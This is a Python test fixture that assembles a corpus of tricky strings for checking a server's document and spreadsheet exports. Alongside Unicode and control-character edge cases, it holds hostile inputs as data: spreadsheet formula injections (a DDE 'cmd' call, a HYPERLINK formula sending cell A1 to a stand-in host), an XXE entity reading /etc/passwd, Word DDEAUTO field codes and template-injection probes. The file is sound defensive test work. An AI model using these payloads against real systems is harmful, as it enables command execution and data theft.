"""Two hundred texts that somebody may write, by mistake or on purpose, for every format to hold."""

from itertools import product

from tests.server.exports.samples import HOSTILE

STARTS = ("", " ", "\u00a0", "\n", "\t", "\r", "\r\n", "x\n", '"', "',", ";", "a;")
FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1;"oops")',
    '+WEBSERVICE("http://x.invalid")',
    "-2+3",
    "@SUM(1+1)",
    "＝1＋1",
)
MARKUP = (
    "</w:t></w:r></w:p><w:p><w:r><w:t>out",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "]]><![CDATA[ x ]]>",
    "&#0; &#x1b; &amp;lt; &nbsp;",
    "_x0041_ _x000D_ _x005F_ _X0041_",
    "{=1+1} {{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    'HYPERLINK "http://x.invalid" \\o MACROBUTTON DDEAUTO c:\\\\windows\\\\cmd.exe',
    "{ DDE cmd }{ INCLUDETEXT /etc/passwd }",
    "http://x.invalid/ mailto:x@x.invalid file:///etc/passwd \\\\x.invalid\\share internal:A1",
    "'=1+1",
    "'",
    '"',
    '""";;;"""',
    "a|b|c\n---|---|---",
    "%PDF-1.7 %%EOF",
    "BEGIN:VCALENDAR\r\nEND:VCALENDAR",
    "x\0y",
    "trailing spaces   ",
    "   leading spaces",
    "two  spaces   within",
    "tab\tbetween",
)
WRITING = (
    "😀" * 300,
    "👨‍👩‍👧‍👦" * 100,
    "🇫🇮🇸🇪🇬🇧" * 20,
    "❤️",
    "\ufe0f",
    "\u200d\u200d",
    "שלום (עולם) 123, =1+1",
    "مرحبا = 5 + 3 ؟",
    "\u202e=1+1\u202c",
    "\u2066=1+1\u2069",
    "\u200e\u200f\u061c",
    "ﷺ" * 40,
    "ก็็็็็็็็็็็็็็็็็็็็",
    "e" + "\u0301" * 60,
    "\ufeffbyte order mark",
    "漢字かな交じり文",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\ufdd0 \ufffe \uffff \U0001ffff noncharacters",
    "ä ö å Ä Ö Å š ž č đ ŋ ŧ",
)
BROKEN = (
    "\ud83d",
    "\udc00x",
    "x\ud83dy\udc00z",
    "\ud83d" * 40,
    "".join(map(chr, range(32))),
    "".join(map(chr, range(0x7F, 0xA0))),
    "\x1b]0;title\x07\x1b[2J",
    "\u0085\u2028\u2029\x0b\x0c\x1c\x1d\x1e",
)
LONG = (
    "a" * 20_000,
    "ä" * 20_000,
    "😀" * 10_000,
    "sana " * 4_000,
    "\n" * 4_000 + "end",
    "=1+1\n" * 2_000,
    "<b>" * 6_000,
    "https://x.invalid/" + "p" * 4_000,
)
EMPTY = ("", " ", "\n", "\u00a0", "\u200b", "\u3000", "\u2800")

CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *HOSTILE,
            *(start + formula for start, formula in product(STARTS, FORMULAS)),
            *MARKUP,
            *WRITING,
            *BROKEN,
            *LONG,
            *EMPTY,
            *(f"{text}\n{text}" for text in (*MARKUP, *WRITING[:12])),
        )
    )
)
assert len(CORPUS) >= 200
